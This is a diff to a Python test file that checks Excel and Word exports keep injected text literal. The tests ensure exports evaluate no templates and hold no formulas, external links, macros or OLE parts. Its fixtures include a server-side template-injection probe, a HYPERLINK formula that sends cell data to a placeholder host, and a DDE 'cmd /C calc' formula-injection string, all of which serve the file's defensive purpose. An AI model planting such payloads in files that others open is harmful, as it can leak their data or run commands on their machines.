@@ -18,7 +18,7 @@ from selfassess.cli import app
 from selfassess.write.excel.book import new_book, to_bytes
 from selfassess.write.excel.look import put
 
-TEMPLATE = "{{ 7 * 191 }} {% for x in range(3) %}again{% endfor %}"
+TEMPLATE = "{{ 70001 * 130003 }} {% for x in range(3) %}again{% endfor %}"
 HOSTILE = (
     '=HYPERLINK("http://example.invalid/?"&A1,"look")',
     "+1+cmd|' /C calc'!A0",
@@ -112,8 +112,8 @@ def test_hostile_words_stand_in_the_evidence_as_they_were_typed(spoilt: Path) ->
     book = load_workbook(path)
     texts = [c.value for ws in book for row in ws.iter_rows() for c in row if c.value]
     said = " ".join(map(str, texts))
-    assert "7 * 191" in said
-    assert str(7 * 191) not in said
+    assert "70001 * 130003" in said
+    assert str(70001 * 130003) not in said
     assert {c.data_type for ws in book for row in ws.iter_rows() for c in row} <= {"s", "n", "d"}
 
 
@@ -131,7 +131,7 @@ def test_word_documents_hold_no_field_but_our_own_and_no_outside_part(spoilt: Pa
         assert 'TargetMode="External"' not in rels
         assert not [n for n in names if "vbaProject" in n or "activeX" in n or "oleObject" in n]
         assert formulas_in(path.read_bytes()) == []
-        assert str(7 * 191) not in xml
+        assert str(70001 * 130003) not in xml
         assert "againagain" not in xml
 
 
